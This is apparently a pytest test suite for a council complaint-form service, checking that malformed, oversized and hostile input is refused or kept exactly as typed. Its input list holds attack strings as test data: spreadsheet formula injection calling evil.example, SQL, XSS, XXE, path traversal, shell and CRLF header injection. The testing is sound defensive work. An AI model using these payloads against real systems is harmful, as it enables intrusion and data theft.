"""Whatever is sent: a clear no that changes nothing, or a case that holds exactly what was typed."""

import base64
import html
import json
import re
import unicodedata
from itertools import count
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from heard import exchange, web
from heard.forms import FORMS, form_named
from heard.handlers import gateway
from heard.host.app import create_app
from tests.conftest import KEY, MESSAGES, SITE, deliver_all, send_json

JSON, FORM = "application/json", exchange.FORM
HELPLINE = "0808 157 0192"
COMPLAINT = {"form": "complaint", "key": KEY, "what_happened": "They never came."}
AS_JSON, AS_FORM = json.dumps(COMPLAINT).encode(), urlencode(COMPLAINT).encode()

UNREADABLE = {
    "arrays 3,000 deep": (400, JSON, b'{"form":' + b"[" * 3_000 + b"]" * 3_000 + b"}"),
    "arrays 100,000 deep": (400, JSON, b'{"form":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "objects 30,000 deep": (400, JSON, b'{"a":' * 30_000 + b"1" + b"}" * 30_000),
    "arrays that never end": (400, JSON, b"[" * 200_000),
    "a million fields": (413, JSON, b"{" + b'"a":1,' * 999_999 + b'"a":1}'),
    "a million fields in a form": (413, FORM, b"a=1&" * 1_000_000),
    "201 fields": (400, JSON, json.dumps({str(number): "" for number in range(201)}).encode()),
    "201 fields in a form": (400, FORM, b"&".join(b"a=1" for _ in range(201))),
    "a megabyte in one field": (413, JSON, b'{"what_happened":"' + b"a" * 1_000_000 + b'"}'),
    "a megabyte in one field of a form": (413, FORM, b"what_happened=" + b"a" * 1_000_000),
    "a name that stands twice": (400, JSON, b'{"form":"complaint","form":"comment"}'),
    "half a body": (400, JSON, AS_JSON[:40]),
    "nothing": (400, JSON, b""),
    "nothing in a form": (400, FORM, b""),
    "a key that stands twice in a form": (400, FORM, AS_FORM + b"&key=" + KEY.encode()),
    "no object": (400, JSON, b'["complaint"]'),
    "a form said to be JSON": (400, JSON, AS_FORM),
    "JSON said to be a form": (400, FORM, AS_JSON),
    "a number longer than Python reads": (400, JSON, b'{"form_version":' + b"9" * 5_000 + b"}"),
    "bytes that are no UTF-8": (400, JSON, b'{"what_happened":"\xff\xfe"}'),
    "bytes that are no UTF-8 in a form": (400, FORM, b"form=complaint&what_happened=%ff%fe"),
    "half a character in UTF-8": (400, FORM, b"form=complaint&what_happened=%ed%a0%80"),
    "a character in more bytes than it needs": (400, FORM, b"form=complaint&what_happened=%c0%af"),
    "characters nobody encoded": (400, FORM, "form=complaint&what_happened=é".encode()),
    "a byte order mark": (400, JSON, b"\xef\xbb\xbf" + AS_JSON),
    "a byte order mark before a form": (400, FORM, b"\xef\xbb\xbf" + AS_FORM),
    "UTF-16": (400, JSON, AS_JSON.decode().encode("utf-16")),
    "UTF-16 without a mark": (400, JSON, AS_JSON.decode().encode("utf-16-be")),
    "UTF-32": (400, JSON, AS_JSON.decode().encode("utf-32")),
    "UTF-16 in a form": (400, FORM, AS_FORM.decode().encode("utf-16")),
    "another encoding": (415, f"{JSON}; charset=utf-16", AS_JSON.decode().encode("utf-16")),
    "another encoding, though its bytes would do": (415, f'{FORM}; Charset = "ISO-8859-1"', AS_FORM),
    "no content type": (415, "", AS_JSON),
    "a content type that is none": (415, "json", AS_JSON),
    "plain text": (415, "text/plain", AS_FORM),
    "two content types": (415, f"{JSON}, {FORM}", AS_JSON),
    "JSON of another kind": (415, "application/ld+json", AS_JSON),
    "parts": (415, "multipart/form-data; boundary=b", b'--b\r\nContent-Disposition: form-data; name="form"\r\n\r\nx'),
}


@pytest.fixture(params=["host", "Lambda"])
def ask(request, services):
    """A POST through one of the two fronts: the status, the headers and the text that come back."""
    client = create_app(services, SITE).test_client()

    def of_the_host(step, content_type, body):
        answer = client.post(f"/api/{step}", data=body, content_type=content_type or None)
        return answer.status_code, dict(answer.headers), answer.text

    def of_lambda(step, content_type, body):
        event = {"headers": {"Content-Type": content_type}, "requestContext": {"http": {"sourceIp": "192.0.2.1"}}}
        event |= {"body": base64.b64encode(body).decode(), "isBase64Encoded": True}
        answer = gateway.to_gateway(web.answer(step, gateway.from_gateway(event), services))
        return answer["statusCode"], answer["headers"], answer["body"]

    return of_the_host if request.param == "host" else of_lambda


def rows(services):
    """Everything that is kept: cases, links, and messages for the council."""
    places = ((services.store, "cases"), (services.store, "links"), (services.queue, "messages"))
    counts = [place.database.connection().execute(f"SELECT count(*) FROM {table}") for place, table in places]  # noqa: S608
    return sum(found.fetchone()[0] for found in counts)


def send(services, body, content_type=JSON, step="send"):
    return web.answer(step, exchange.Request(content_type, body), services)


@pytest.mark.parametrize("wrong", UNREADABLE)
def test_what_cannot_be_read_is_refused_clearly_and_nothing_is_kept(ask, services, wrong):
    expected, content_type, body = UNREADABLE[wrong]
    for step in web.STEPS:
        status, _, text = ask(step, content_type, body)
        of_no_use = {"follow": 422, "sign-in": 422, "receipt": 404}.get(step)  # readable, but without what it needs
        assert status in (expected, of_no_use)
        assert json.loads(text)["errors"] if text.startswith("{") else HELPLINE in text
    assert rows(services) == 0


def test_a_body_may_be_as_big_as_the_limit_and_no_bigger(ask, services):
    fits = AS_JSON.ljust(exchange.MAX_BYTES)
    assert ask("send", JSON, fits + b" ")[0] == 413
    assert rows(services) == 0
    assert ask("send", JSON, fits)[0] == 201


def test_a_content_type_may_say_utf_8_in_any_way(ask):
    for said in (f"{JSON};charset=utf-8", 'APPLICATION/JSON ; Charset="UTF-8"', f"{JSON}; charset=us-ascii; a=b"):
        assert ask("check", said, AS_JSON)[0] == 200


def test_an_event_without_headers_or_a_body_is_refused_like_any_other(services):
    event = {"requestContext": {"http": {"sourceIp": "192.0.2.1"}}}
    assert web.answer("send", gateway.from_gateway(event), services).status == 415
    for body in ("\ud800", '{"form":"\ud800"}', ""):
        told = {**event, "headers": {"CONTENT-TYPE": JSON}, "body": body}
        assert web.answer("send", gateway.from_gateway(told), services).status == 400
    assert rows(services) == 0


NO_TEXT = {
    "a number": "7",
    "less than nothing": "-0.0",
    "too much for a number": "1e999",
    "not a number": "NaN",
    "without end": "-Infinity",
    "as long as Python reads": "9" * 4_300,
    "true": "true",
    "an object": '{"a":"b"}',
    "what JavaScript has": '{"__proto__":{"x":1}}',
    "a list in a list": '[["delay"]]',
    "a list of nothing": "[null]",
    "a list of everything": '["delay",1,{},"\\ud800"]',
}
NO_ANSWER = {
    "half a character": r'"\ud83d"',
    "the halves the wrong way round": r'"\udc4b\ud83d"',
    "NUL": r'"a\u0000b"',
    "a bell": r'"\u0007"',
    "an escape": r'"\u001b[31mred"',
    "delete": r'"\u007f"',
    "the next line of long ago": r'"a\u0085b"',
}
ASKED = ("what_happened", "what_would_help", "safe_now", "themes", "advocate_email", "phone", "postal_address")
COMMON = ("form", "key", "lang", "voice", "form_version")


def with_literal(field, literal):
    """The complaint with one field as JSON that no serialiser would write."""
    rest = {name: value for name, value in COMPLAINT.items() if name != field}
    return f"{json.dumps(rest)[:-1]}, {json.dumps(field)}: {literal}}}".encode()


@pytest.mark.parametrize("field", [*ASKED, *COMMON, "placement"])
def test_what_is_no_answer_is_refused_by_the_name_of_its_field(services, field):
    wrong = NO_TEXT if field == "placement" else NO_TEXT | NO_ANSWER  # any text may stand on a worn QR code
    for name, literal in wrong.items():
        answer = send(services, with_literal(field, literal))
        assert (answer.status, list(json.loads(answer.body)["errors"])) == (422, [field]), name
    assert rows(services) == 0


@pytest.mark.parametrize("field", [*ASKED, *COMMON, "placement", "unknown"])
def test_nesting_at_the_edge_of_what_python_bears_breaks_nothing(services, field):
    for depth in range(850, 1_010):
        for opening, closing in (("[", "]"), ('{"a":', "}")):
            answer = send(services, with_literal(field, opening * depth + '"a"' + closing * depth))
            assert answer.status in (400, 422)
    assert rows(services) == 0


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("form_version", "9" * 5_000),
        ("form_version", "1e3"),
        ("form_version", "²"),
        ("form_version", "-1"),
        ("form_version", 2**64),
        ("key", KEY + "\n"),
        ("key", KEY.upper()),
        ("key", "٠" * 32),
        ("lang", "../../en"),
        ("voice", "young\x00"),
        ("form", "__class__"),
        ("themes", ["delay", "delay"]),
        ("advocate_email", "a@b.example\r\nBcc: c@d.example"),
        ("advocate_email", "a@b.example, c@d.example"),
        ("advocate_email", "a." * 100 + "@b.example"),
        ("advocate_email", "a@" + "é." * 100),
        ("phone", "٠١"),
        ("__proto__", "x"),
        ("constructor", "x"),
        ("what_happened\x00", "x"),
        ("<script>alert(1)</script>", "x"),
        ("", "x"),
    ],
)
def test_a_wrong_field_is_refused_as_json_and_as_a_form(services, field, value):
    sent = COMPLAINT | {field: value}
    status, answer = send_json(services, "send", **sent)
    assert (status, list(answer["errors"])) == (422, [field])
    page = send(services, urlencode(sent, doseq=True).encode(), FORM)
    assert page.status in (400, 422)
    assert HELPLINE in page.body
    assert "<script>alert" not in page.body
    assert rows(services) == 0


def test_a_line_break_in_any_field_makes_no_header(ask, services):
    """CRLF in every field, to every call: it is refused, or it is a line break in a text and nothing else."""
    fields = [*COMPLAINT, "lang", "voice", "form_version", "placement", "code", "change", "homepage", "advocate_email"]
    for step in web.STEPS:
        for field in fields:
            sent = COMPLAINT | {field: COMPLAINT.get(field, "") + "\r\nInjected: yes\r\n\r\n<p>"}
            for content_type, body in ((JSON, json.dumps(sent).encode()), (FORM, urlencode(sent).encode())):
                status, headers, text = ask(step, content_type, body)
                assert status < 500
                assert "Injected" not in str(headers)
                assert "\r\nInjected" not in text
    [case] = services.store.waiting()
    assert case.answers["what_happened"] in (
        "They never came.",
        "They never came.\nInjected: yes\n\n<p>",
    )


FAITHFUL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    '"a","b";c',
    "'; DROP TABLE cases; --",
    "' OR 1=1 --",
    "{{7*7}} {% debug %} ${7*7} #{7*7} <%= 7*7 %> @@content@@ @@title@@ %(a)s {0} {name}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea></title></style><!-- ]]>",
    "&lt;b&gt; &amp;amp; &#0; &nbsp",
    "javascript:alert(1)",
    "%00 %0d%0a %2e%2e%2f %zz %",
    "\\u0000 \\ud800 \\x00 \\n \\",
    "../../etc/passwd",
    "$(reboot) `reboot` | reboot & ; reboot",
    "(&(uid=*)) *)(uid=*",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "null undefined NaN true None [object Object] 1e999 __proto__ constructor",
    "\u202eright to left\u202c \u2066isolated\u2069 \u200f\u200e",
    "مرحبا بالعالم שלום",
    "Z̸̧̢̛̗̻̪̤̝͒̓̃̈́̏̚͝a̵̙͐l̷̰̈́g̶̢̋o̵̦͝" + "\u0301" * 300,
    "👩🏽\u200d❤️\u200d💋\u200d👨🏿 👨\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇬🇧🇺🇦 #️⃣",
    "\ufffe \uffff \U0001ffff \U0010ffff \ufdd0 \ufeff \ue000",
    "a\u200d\u200c\u200b\u2060\u00adb\u2028c\u2029d\u00a0e\u3000f",
    "   \n\n  spaces, and an empty line \n ",
    "ﬀ ſ İ ı ẞ Å Å ① ２ ½ ﷺ",
]


@pytest.mark.parametrize("text", FAITHFUL)
def test_whatever_is_text_is_checked_kept_and_passed_on_as_it_was_typed(services, text):
    """The way of a browser without scripts: the form, the page that reads the answers back, the council's queue."""
    sent = {"form": "complaint", "voice": "young", "what_happened": text, "postal_address": text}
    checked = send(services, urlencode(sent).encode(), FORM, "check")
    assert checked.status == 200
    hidden = re.findall(r'<input type="hidden" name="([^"]*)" value="([^"]*)">', checked.body)
    again = {name: html.unescape(value) for name, value in hidden}
    assert again["what_happened"] == text
    assert "<script>alert" not in checked.body
    assert "<img src=x" not in checked.body
    assert send(services, urlencode(again).encode(), FORM).status == 201
    deliver_all(services)
    [message] = services.inbox.peek(10)
    assert message["text"] == {"what_happened": text}
    assert message["contact"]["postal_address"] == text


FAIR = st.sampled_from(FAITHFUL) | st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=20)
UNFAIR = st.one_of(
    st.sampled_from(
        ["\r\n", "\r", "\x00", "\x1f", "\x85", "\ud800", "\udfff", "", " ", "\u2028", "x" * 210, "é" * 5_000]
    ),
    st.sampled_from(["a@b.example", "\r\nBcc: a@b.example", "07700 900123", "٠٧٧٠٠"]),
    st.text(st.characters(categories=["Cc", "Cs", "Cf", "Mn", "So", "Zs", "Co", "Cn"]), max_size=20),
)
NAUGHTY = st.lists(FAIR | UNFAIR, max_size=4).map("".join)
EMAIL = st.sampled_from(["a@b.example", " \r\no'b+c@b.example\t", "ü@xn--bcher-kva.example"])
PHONE = st.sampled_from(["07700 900123", "=07700900123", "\t٠٧٧٠٠ ٩٠٠١٢٣\r\n"])
TEXTS = {
    form: {q.id: q.max_length for q in form_named(form).questions if not q.options and q.type != "email"}
    for form in FORMS
}
EMAILS = {form: [q.id for q in form_named(form).questions if q.type == "email"] for form in FORMS}
KEYS = count()


def tidied(text):
    """What the documents promise to take off, and no more."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def fit(text, longest):
    controls = any(unicodedata.category(character) == "Cc" and character not in "\n\t" for character in text)
    return len(text) <= longest and not controls and not has_half_characters(text)


def has_half_characters(text):
    return any(unicodedata.category(character) == "Cs" for character in text)


def texts_of(message):
    """Every text of a council message, by the question that asked for it."""
    contact, advocate = message["contact"], message["advocate"]
    given = {**message["text"], **{name: contact[name] for name in ("email", "phone", "postal_address")}}
    given |= {"contact_notes": contact["notes"], "advocate_name": advocate["name"], "advocate_email": advocate["email"]}
    given |= {"interpreter_language": message["needs"]["interpreter_language"]}
    return {name: text for name, text in given.items() if text is not None}


@st.composite
def submissions(draw):
    form = draw(st.sampled_from(FORMS))
    text = draw(st.sampled_from([FAIR, NAUGHTY]))
    asked = dict.fromkeys(TEXTS[form], text) | dict.fromkeys(EMAILS[form], EMAIL | text) | {"phone": PHONE | text}
    return form, draw(st.fixed_dictionaries({MESSAGES[form]: asked.pop(MESSAGES[form])}, optional=asked))


@settings(
    max_examples=400, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(submissions(), st.booleans())
@example(("comment", {"what_you_want_to_say": "x" * 5_000}), False)
@example(("comment", {"what_you_want_to_say": "x", "phone": "\r\n07700 900123\r"}), True)
def test_naughty_text_in_every_answer_is_kept_as_typed_or_refused_by_name(services, submission, is_form):
    form, typed = submission
    fields = {"form": form, "key": f"{next(KEYS):032x}", **typed}
    before, longest = rows(services), TEXTS[form]
    answers = {name: tidied(text) for name, text in typed.items() if text.strip()}
    unfit = {name for name, text in answers.items() if name in longest and not fit(text, longest[name])}
    unfit |= {MESSAGES[form]} - set(answers)
    judged_by_more = {"phone", *EMAILS[form]}
    if is_form:
        answer = send(services, urlencode(fields, errors="surrogatepass").encode(), FORM)
        named = set(re.findall('href="#([a-z_]+)"', answer.body)) & {*longest, *judged_by_more}
    else:
        answer = send(services, json.dumps(fields).encode())
        named = set(json.loads(answer.body).get("errors", {}))
    if answer.status == 201:
        deliver_all(services)
        [taken] = services.inbox.receive(10, 30)
        services.inbox.delete(taken.handle)
        emails = {name: answers[name].strip() for name in EMAILS[form] if name in answers}
        assert texts_of(taken.message) == answers | emails
        assert not unfit
    elif is_form and has_half_characters("".join(typed.values())):
        assert (answer.status, rows(services)) == (400, before)
    else:
        assert (answer.status, rows(services)) == (422, before)
        assert unfit <= named <= unfit | judged_by_more


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(NAUGHTY, NAUGHTY, max_size=5), st.sampled_from(sorted(web.STEPS)))
def test_naughty_names_break_nothing_and_are_never_markup(services, fields, step):
    answer = send(services, json.dumps(COMPLAINT | fields).encode(), step=step)
    page = send(services, urlencode(COMPLAINT | fields, errors="surrogatepass").encode(), FORM, step)
    assert answer.status < 500
    assert page.status < 500
    assert "<script>alert" not in page.body
    assert "<img src=x" not in page.body
